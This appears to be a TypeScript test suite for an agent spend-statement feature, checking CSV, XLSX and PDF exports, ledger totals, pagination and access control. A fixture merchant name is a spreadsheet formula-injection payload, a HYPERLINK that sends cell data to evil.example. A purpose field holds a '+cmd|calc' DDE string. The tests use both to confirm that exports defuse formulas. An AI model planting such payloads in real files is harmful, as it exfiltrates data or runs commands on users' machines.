import ExcelJS from 'exceljs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { StatementRequest, StatementRun } from '../src/app/agent-statements.ts';
import { openStatements } from '../src/app/agent-statements.ts';
import type { Principal } from '../src/app/principal.ts';
import { recordTransactions } from '../src/app/record-transactions.ts';
import { upsertAgent } from '../src/app/setup.ts';
import { decideSpend } from '../src/app/spend-approvals.ts';
import { STATEMENT_COLUMNS, writeStatementCsv } from '../src/adapters/reports/statement-csv.ts';
import { writeStatementPdf } from '../src/adapters/reports/statement-pdf.ts';
import { writeStatementXlsx } from '../src/adapters/reports/statement-xlsx.ts';
import type { TransactionInput } from '../src/domain/ledger/transaction.ts';
import { formatMinor } from '../src/domain/money/decimal.ts';
import type { StatementLine } from '../src/domain/statement/statement.ts';
import { ENGINES } from './support/engines.ts';
import type { TestEnv } from './support/engines.ts';
import { codeOf, person, seededSuite, tx } from './support/fixtures.ts';
import type { Seeded } from './support/fixtures.ts';
import {
  cellText,
  collect,
  grouped,
  libreOfficeAvailable,
  libreOfficeSheets,
  parseCsv,
  pdfText,
  popplerAvailable,
  withoutCachedResults,
} from './statements-tools.ts';

/**
 * The agent spend statement end to end on each engine: a month recorded through the product,
 * read back as a statement, and written as CSV, XLSX and PDF. The expected figures come from the
 * store's own aggregate query (the one the monthly summary uses), not from the statement code,
 * and the files are read back by independent readers: csv-parse, exceljs, LibreOffice, pdftotext.
 */

const finance = person('fiona@acme.test', 'finance');
const agentKey = (agentId: string): Principal => ({ org_id: 'acme', principal: `key:${agentId}`, roles: ['agent'], agent_id: agentId, key_id: null });

const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click for refund")';
const LONG_A = 'support-bot-eu-with-a-long-agent-id-abc';
const LONG_B = 'support-bot-eu-with-a-long-agent-id-xyz';

interface Scenario {
  paymentIds: Map<string, string>;
}

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'statements-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function readAll(run: StatementRun): Promise<StatementLine[][]> {
  const out: StatementLine[][] = [];
  for (const s of run.statements) {
    const lines: StatementLine[] = [];
    for await (const l of s.lines()) lines.push(l);
    out.push(lines);
  }
  return out;
}

describe.each(ENGINES)('agent spend statements on %s', (engine) => {
  let env: TestEnv;
  let org: Seeded;
  const suite = seededSuite(engine, (e, o) => {
    env = e;
    org = o;
  });
  const s: Scenario = { paymentIds: new Map() };
  const open = (req: StatementRequest, by: Principal = finance): Promise<StatementRun> => openStatements(env.deps, by, req);
  const record = async (items: TransactionInput[]): Promise<void> => {
    const out = await recordTransactions(env.deps, org.admin, items, 'atomic');
    for (const [i, o] of out.entries()) {
      if (!o.ok) throw new Error(`not recorded: ${items[i]?.external_id}`);
      s.paymentIds.set(items[i]?.external_id ?? '', o.result.transaction.tx_id);
    }
  };
  /** The ledger's own aggregate for an agent's March, from the store's grouped SQL. */
  const ledgerMarch = async (agentId: string) => {
    const groups = await env.store.spendGroups('acme', new Date('2026-03-01T00:00:00Z'), new Date('2026-04-01T00:00:00Z'), [agentId]);
    const total = groups.find((g) => g.by === 'total');
    const accounts = new Map(groups.filter((g) => g.by === 'account').map((g) => [g.key, formatMinor(g.net_minor, 2)]));
    return {
      net: formatMinor(total?.net_minor ?? 0n, 2),
      refunds: formatMinor(total?.refunds_minor ?? 0n, 2),
      payments: formatMinor((total?.net_minor ?? 0n) - (total?.refunds_minor ?? 0n), 2),
      transactions: total?.transactions ?? 0,
      accounts,
    };
  };

  it('records a month to make statements of', async (ctx) => {
    if (suite.skipped()) return ctx.skip();
    env.clock.set('2026-04-02T12:00:00.000Z');
    await upsertAgent(env.deps, org.admin, { agent_id: LONG_A, name: 'EU support (A)', owner: 'carol@acme.test', cluster: 'support' });
    await upsertAgent(env.deps, org.admin, { agent_id: LONG_B, name: 'EU support (B)', owner: 'carol@acme.test', cluster: 'support' });
    await record([
      tx({ external_id: 'feb', amount: '30.00', timestamp: '2026-02-27T09:00:00Z' }),
      tx({ external_id: 'aws', amount: '100.00', timestamp: '2026-03-03T08:30:00Z' }),
      tx({ external_id: 'big', amount: '2600.00', merchant: 'OpenAI', merchant_category: null, approver: 'dave@acme.test', timestamp: '2026-03-05T10:00:00Z' }),
      tx({ external_id: 'evil', amount: '12.34', merchant: INJECTION, merchant_category: null, business_purpose: '+cmd|calc', timestamp: '2026-03-06T10:00:00Z' }),
      tx({ external_id: 'eur', amount: '50.00', currency: 'EUR', fx_rate: '1.1', fx_rate_source: 'ECB', fx_rate_time: '2026-03-07T00:00:00Z', merchant: 'Hetzner', timestamp: '2026-03-07T10:00:00Z' }),
      tx({ external_id: 'unapproved', amount: '2100.00', merchant: 'Anthropic', merchant_category: null, accounting_code: '6420', timestamp: '2026-03-08T10:00:00Z' }),
      tx({ external_id: 'refund_aws', type: 'refund', refund_of: 'aws', amount: '-20.00', timestamp: '2026-03-10T10:00:00Z' }),
      tx({ external_id: 'refund_feb', type: 'refund', refund_of: 'feb', amount: '-5.00', timestamp: '2026-03-11T10:00:00Z' }),
      tx({ external_id: 'apr', amount: '999.00', timestamp: '2026-04-01T00:00:00Z' }),
      tx({ external_id: 'research', agent_id: 'research-bot', payment_rail: 'x402', amount: '10.00', merchant: 'OpenAI', merchant_category: null, timestamp: '2026-03-07T10:00:00Z' }),
      tx({ external_id: 'eu_a', agent_id: LONG_A, amount: '7.50', timestamp: '2026-03-09T10:00:00Z' }),
    ]);
    await decideSpend(env.deps, person('dave@acme.test', 'approver'), { tx_id: s.paymentIds.get('unapproved'), decision: 'approve', comment: 'agreed on call' });
  });

  it("lists every transaction of the agent's month in date order, refunds linked to their payments", async (ctx) => {
    if (suite.skipped()) return ctx.skip();
    const run = await open({ agent_id: 'support-bot', period: { month: '2026-03' } });
    const [lines = []] = await readAll(run);
    expect(lines.map((l) => l.merchant)).toEqual(['AWS', 'OpenAI', INJECTION, 'Hetzner', 'Anthropic', 'AWS', 'AWS']);
    expect(lines.map((l) => l.local_time.slice(0, 10))).toEqual(['2026-03-03', '2026-03-05', '2026-03-06', '2026-03-07', '2026-03-08', '2026-03-10', '2026-03-11']);
    const [refundAws, refundFeb] = lines.filter((l) => l.type === 'refund');
    expect(refundAws?.refund_of).toMatchObject({ tx_id: s.paymentIds.get('aws'), in_period: true, amount: '100.00', local_time: '2026-03-03 08:30:00' });
    expect(refundFeb?.refund_of).toMatchObject({ tx_id: s.paymentIds.get('feb'), in_period: false, amount: '30.00' });
    expect(lines.find((l) => l.merchant === 'Hetzner')).toMatchObject({ amount: '50.00', currency: 'EUR', reporting_amount: '55.00', reporting_currency: 'USD' });
    expect(lines.find((l) => l.merchant === 'Anthropic')).toMatchObject({ approver: 'dave@acme.test', approved_after_the_fact: true, violations: ['missing_approval'] });
    expect(lines.find((l) => l.merchant === 'OpenAI')).toMatchObject({ gl_account: '6420', gl_account_name: 'API services', violations: ['over_limit'] });

    const h = run.statements[0]?.header;
    const [policy] = await env.store.getPolicyVersions('acme', ['support-bot']);
    expect(h?.agent).toEqual({ agent_id: 'support-bot', name: 'Support bot', owner: 'alice@acme.test', cluster: 'support' });
    expect(h?.policies.map((p) => [p.version, p.snapshot_id, p.from, p.until])).toEqual([[1, policy?.snapshot_id, '2026-03-01T00:00:00.000Z', '2026-04-01T00:00:00.000Z']]);
  });

  it("totals the statement exactly as the ledger's own aggregate, by GL account too", async (ctx) => {
    if (suite.skipped()) return ctx.skip();
    const run = await open({ agent_id: 'support-bot', period: { month: '2026-03' } });
    await readAll(run);
    const t = run.statements[0]?.totals();
    const ledger = await ledgerMarch('support-bot');
    expect(ledger.net).toBe('4842.34'); // 100 + 2600 + 12.34 + 55 + 2100 - 20 - 5, written down by hand
    expect(t?.net).toEqual({ count: ledger.transactions, amount: ledger.net });
    expect(t?.payments.amount).toBe(ledger.payments);
    expect(t?.refunds.amount).toBe(ledger.refunds);
    expect(new Map(t?.by_gl_account.map((g) => [g.gl_account, g.amount]))).toEqual(ledger.accounts);
    // Budgets count payments gross (refunds give none back): 4,867.34 of the 20,000.00 monthly limit.
    expect(t?.budget.monthly).toEqual([{ month: '2026-03', partial: false, used: '4867.34', limit: '20000.00', remaining: '15132.66', policy_version: 1 }]);
    expect(t?.budget.daily.peak).toMatchObject({ day: '2026-03-05', used: '2600.00', limit: '5000.00', over: false });
  });

  it('leaves out what was recorded after the statement was opened', async (ctx) => {
    if (suite.skipped()) return ctx.skip();
    const run = await open({ agent_id: 'research-bot', period: { month: '2026-03' } });
    await record([tx({ external_id: 'late', agent_id: 'research-bot', payment_rail: 'x402', amount: '1.00', merchant: 'OpenAI', merchant_category: null, timestamp: '2026-03-01T00:00:01Z' })]);
    const [lines = []] = await readAll(run);
    expect(lines.map((l) => l.tx_id)).toEqual([s.paymentIds.get('research')]);
    const again = await readAll(await open({ agent_id: 'research-bot', period: { month: '2026-03' } }));
    expect(again[0]?.map((l) => l.tx_id)).toEqual([s.paymentIds.get('late'), s.paymentIds.get('research')]);
  });

  it('writes a CSV that a CSV parser reads back as the lines and totals, with formula text defused', async (ctx) => {
    if (suite.skipped()) return ctx.skip();
    const run = await open({ agent_id: 'support-bot', period: { month: '2026-03' } });
    const text = (await collect((out) => writeStatementCsv(run, out))).toString('utf8');
    const rows = parseCsv(text);
    expect(Object.keys(rows[0] ?? {})).toEqual([...STATEMENT_COLUMNS]);
    const txs = rows.filter((r) => r.record_type === 'transaction');
    expect(txs).toHaveLength(7);
    const evil = txs.find((r) => r.tx_id === s.paymentIds.get('evil'));
    // The formula stays text: a spreadsheet opening this CSV shows it, never runs it.
    expect(evil).toMatchObject({ merchant: `'${INJECTION}`, business_purpose: "'+cmd|calc", reporting_amount: '12.34', gl_account: '', violations: 'uncoded' });
    const refund = txs.find((r) => r.refund_of === s.paymentIds.get('feb'));
    expect(refund).toMatchObject({ type: 'refund', amount: '-5.00', reporting_amount: '-5.00', refund_of_date: '2026-02-27 09:00:00', agent_id: 'support-bot', period_start: '2026-03-01T00:00:00.000Z', period_end: '2026-04-01T00:00:00.000Z' });
    const ledger = await ledgerMarch('support-bot');
    const total = (type: string): Record<string, string> | undefined => rows.find((r) => r.record_type === type);
    expect(total('total_net')).toMatchObject({ reporting_amount: ledger.net, count: String(ledger.transactions) });
    expect(total('total_refunds')).toMatchObject({ reporting_amount: ledger.refunds });
    expect(total('total_payments')).toMatchObject({ reporting_amount: ledger.payments });
    expect(rows.filter((r) => r.record_type === 'total_gl_account').map((r) => [r.gl_account, r.reporting_amount])).toEqual([
      ['6400', ledger.accounts.get('6400')],
      ['6420', ledger.accounts.get('6420')],
      ['', ledger.accounts.get(null)],
    ]);
    const [policy] = await env.store.getPolicyVersions('acme', ['support-bot']);
    expect(rows.filter((r) => r.record_type === 'policy').map((r) => r.policy_snapshot_id)).toEqual([policy?.snapshot_id]);
    // The sum of the transaction rows is the net total, to the cent.
    const cents = txs.reduce((c, r) => c + BigInt((r.reporting_amount ?? '').replace('.', '')), 0n);
    expect(formatMinor(cents, 2)).toBe(ledger.net);
  });

  it('says so in every format when the period has no transactions, rather than failing', async (ctx) => {
    if (suite.skipped()) return ctx.skip();
    const req: StatementRequest = { agent_id: 'support-bot', period: { month: '2026-01' } };
    const csv = parseCsv((await collect(async (out) => writeStatementCsv(await open(req), out))).toString('utf8'));
    expect(csv.map((r) => r.record_type)).toEqual(['policy', 'no_transactions', 'total_payments', 'total_refunds', 'total_net', 'budget_monthly']);
    expect(csv.find((r) => r.record_type === 'no_transactions')?.label).toBe('No transactions in this period.');
    expect(csv.find((r) => r.record_type === 'total_net')).toMatchObject({ reporting_amount: '0.00', count: '0' });

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await collect(async (out) => writeStatementXlsx(await open(req), out))) as unknown as ExcelJS.Buffer);
    const texts: string[] = [];
    wb.worksheets[0]?.eachRow((r) => texts.push(cellText(r.getCell(1).value)));
    expect(texts).toContain('No transactions in this period.');

    if (!popplerAvailable()) return;
    const file = join(dir, `${engine}-empty.pdf`);
    await writeFile(file, await collect(async (out) => writeStatementPdf(await open(req), out)));
    const { text } = await pdfText(file);
    expect(text).toContain('No transactions in this period.');
    expect(text).toContain('January 2026');
  });

  it('writes one XLSX sheet per agent of a cluster, with valid names, typed cells, a frozen header and formula totals', async (ctx) => {
    if (suite.skipped()) return ctx.skip();
    const run = await open({ cluster: 'support', period: { month: '2026-03' } });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await collect((out) => writeStatementXlsx(run, out))) as unknown as ExcelJS.Buffer);
    const names = wb.worksheets.map((w) => w.name);
    expect(names).toEqual(['support-bot', 'support-bot-eu-with-a-long-agen', 'support-bot-eu-with-a-long-ag~2']);
    for (const n of names) expect(n).toMatch(/^[^[\]:*?/\\]{1,31}$/);

    const ws = wb.getWorksheet('support-bot');
    if (ws === undefined) throw new Error('no support-bot sheet');
    let header = 0;
    ws.eachRow((r, n) => {
      if (r.getCell(1).value === 'Date' && header === 0) header = n;
    });
    expect(header).toBeGreaterThan(1);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: header });
    const first = ws.getRow(header + 1);
    expect(first.getCell(1).value).toEqual(new Date('2026-03-03T08:30:00.000Z'));
    expect(first.getCell(1).numFmt).toBe('yyyy-mm-dd hh:mm:ss');
    expect(first.getCell(11).value).toBe(100);
    expect(first.getCell(11).numFmt).toBe('#,##0.00');
    const evil = ws.getRow(header + 3);
    expect(evil.getCell(3).value).toBe(`'${INJECTION}`);
    expect(evil.getCell(3).type).toBe(ExcelJS.ValueType.String);
    const eur = ws.getRow(header + 4);
    expect([eur.getCell(9).value, eur.getCell(10).value, eur.getCell(11).value]).toEqual([50, 'EUR', 55]);

    const ledger = await ledgerMarch('support-bot');
    let net: ExcelJS.CellValue = null;
    ws.eachRow((r) => {
      if (cellText(r.getCell(1).value).startsWith('Net (')) net = r.getCell(11).value;
    });
    expect(net).toEqual({ formula: `SUM(K$${header + 1}:K$${header + 7})`, result: Number(ledger.net) });
  });

  it('opens in LibreOffice with totals equal to the ledger to the cent, cached or computed by its formulas', { timeout: 240_000 }, async (ctx) => {
    if (suite.skipped() || !libreOfficeAvailable()) return ctx.skip();
    const run = await open({ cluster: 'support', period: { month: '2026-03' } });
    const xlsx = await collect((out) => writeStatementXlsx(run, out));
    const cached = join(dir, `${engine}-cached.xlsx`);
    await writeFile(cached, xlsx);
    const computed = join(dir, `${engine}-computed.xlsx`);
    expect(await withoutCachedResults(xlsx, computed)).toBeGreaterThan(5);

    const ledger = await ledgerMarch('support-bot');
    for (const file of [cached, computed]) {
      const sheets = await libreOfficeSheets(file, dir);
      expect([...sheets.keys()].sort()).toEqual(['support-bot', 'support-bot-eu-with-a-long-agen', 'support-bot-eu-with-a-long-ag~2'].sort());
      const table = sheets.get('support-bot') ?? [];
      // Column A holds the labels, K the reporting amounts, shown with the number format.
      const shown = (label: string): string | undefined => table.find((r) => r[0]?.startsWith(label))?.[10];
      expect(shown('Net (')).toBe(grouped(ledger.net));
      expect(shown('Payments (')).toBe(grouped(ledger.payments));
      expect(shown('Refunds and reversals (')).toBe(grouped(ledger.refunds));
      const gl = (code: string): string | undefined => table.find((r) => r[4] === code && /^\d+ transactions?$/.test(r[0] ?? ''))?.[10];
      expect(gl('6400')).toBe(grouped(ledger.accounts.get('6400') ?? ''));
      expect(gl('6420')).toBe(grouped(ledger.accounts.get('6420') ?? ''));
      expect(gl('(uncoded)')).toBe(grouped(ledger.accounts.get(null) ?? ''));
      expect(table.find((r) => r[0]?.startsWith('Remaining in 2026-03'))?.[10]).toBe('15,132.66');
      // The merchant named like a formula is text in the sheet, apostrophe and all.
      expect(table.some((r) => r[2] === `'${INJECTION}`)).toBe(true);
      expect(table.find((r) => r[2] === 'Hetzner')?.slice(8, 11)).toEqual(['50.00', 'EUR', '55.00']);
      const eu = sheets.get('support-bot-eu-with-a-long-ag~2') ?? [];
      expect(eu.some((r) => r[0] === 'No transactions in this period.')).toBe(true);
    }
  });

  it('renders a paginated PDF naming the agent, the period, each merchant and the totals', { timeout: 60_000 }, async (ctx) => {
    if (suite.skipped() || !popplerAvailable()) return ctx.skip();
    const run = await open({ agent_id: 'support-bot', period: { month: '2026-03' } });
    const file = join(dir, `${engine}-support.pdf`);
    await writeFile(file, await collect((out) => writeStatementPdf(run, out)));
    const { text, pages } = await pdfText(file);
    const flat = text.replace(/\s+/g, ' ');
    expect(flat).toContain('support-bot - Support bot');
    expect(flat).toContain('March 2026 (2026-03-01 to 2026-03-31, UTC)');
    for (const m of ['AWS', 'OpenAI', 'Hetzner', 'Anthropic', '=HYPERLINK(']) expect(flat).toContain(m);
    const ledger = await ledgerMarch('support-bot');
    expect(flat).toMatch(new RegExp(`Net \\(7 transactions\\) ${grouped(ledger.net).replace(/[.]/g, '\\.')} USD`));
    expect(flat).toContain(`${grouped(ledger.refunds)} USD`);
    expect(flat).toContain(`refund of the payment of 2026-02-27 09:00 to AWS, 30.00 USD`);
    expect(flat).toContain(`Page 1 of ${pages}`);
  });

  it('breaks a long statement over pages with the header repeated and every page numbered', { timeout: 120_000 }, async (ctx) => {
    if (suite.skipped()) return ctx.skip();
    await upsertAgent(env.deps, org.admin, { agent_id: 'bulk-bot', name: 'Bulk bot', owner: 'bob@acme.test', cluster: 'bulk' });
    // More than two store pages (500 rows each), spread over the month.
    const many = Array.from({ length: 1101 }, (_, i) =>
      tx({ external_id: `bulk_${i}`, agent_id: 'bulk-bot', amount: `${(i % 97) + 1}.${String(i % 100).padStart(2, '0')}`, timestamp: `2026-03-${String((i % 28) + 1).padStart(2, '0')}T${String(i % 24).padStart(2, '0')}:00:00Z` }),
    );
    await record(many);
    const expected = many.reduce((c, t) => c + BigInt(t.amount.replace('.', '')), 0n);
    const run = await open({ agent_id: 'bulk-bot', period: { month: '2026-03' } });
    const [lines = []] = await readAll(run);
    expect(lines).toHaveLength(1101);
    expect(lines.every((l, i) => i === 0 || (lines[i - 1]?.timestamp ?? '') <= l.timestamp)).toBe(true);
    expect(run.statements[0]?.totals().net.amount).toBe(formatMinor(expected, 2));

    if (!popplerAvailable()) return;
    const file = join(dir, `${engine}-bulk.pdf`);
    await writeFile(file, await collect(async (out) => writeStatementPdf(await open({ agent_id: 'bulk-bot', period: { month: '2026-03' } }), out)));
    const { text, pages } = await pdfText(file);
    expect(pages).toBeGreaterThan(10);
    const perPage = text.split('\f').filter((p) => p.trim() !== '');
    expect(perPage).toHaveLength(pages);
    perPage.forEach((p, i) => {
      expect(p).toContain(`Page ${i + 1} of ${pages}`);
      expect(p).toContain('Business purpose');
    });
    expect(perPage[pages - 1]).toContain(`${grouped(formatMinor(expected, 2))} USD`);
  });

  it("lets an agent key read its own statement only, never another agent's or a cluster's", async (ctx) => {
    if (suite.skipped()) return ctx.skip();
    const own = await open({ agent_id: 'research-bot', period: { month: '2026-03' } }, agentKey('research-bot'));
    expect(own.statements.map((x) => x.header.agent.agent_id)).toEqual(['research-bot']);
    expect(await codeOf(open({ agent_id: 'support-bot', period: { month: '2026-03' } }, agentKey('research-bot')))).toBe('FORBIDDEN');
    expect(await codeOf(open({ agent_id: 'no-such-bot', period: { month: '2026-03' } }, agentKey('research-bot')))).toBe('FORBIDDEN');
    expect(await codeOf(open({ cluster: 'research', period: { month: '2026-03' } }, agentKey('research-bot')))).toBe('FORBIDDEN');
    expect(await codeOf(open({ agent_id: 'support-bot', period: { month: '2026-03' } }, person('ann@acme.test', 'approver')))).toBe('FORBIDDEN');
    expect((await open({ agent_id: 'support-bot', period: { month: '2026-03' } }, person('al@acme.test', 'auditor'))).statements).toHaveLength(1);
  });

  it('refuses an unknown agent or cluster and a period that has not begun', async (ctx) => {
    if (suite.skipped()) return ctx.skip();
    expect(await codeOf(open({ agent_id: 'no-such-bot', period: { month: '2026-03' } }))).toBe('AGENT_NOT_FOUND');
    expect(await codeOf(open({ cluster: 'nobody', period: { month: '2026-03' } }))).toBe('CLUSTER_NOT_FOUND');
    expect(await codeOf(open({ agent_id: 'support-bot', period: { month: '2026-05' } }))).toBe('VALIDATION_FAILED');
    expect(await codeOf(open({ agent_id: 'support-bot', cluster: 'support', period: { month: '2026-03' } }))).toBe('VALIDATION_FAILED');
  });
});
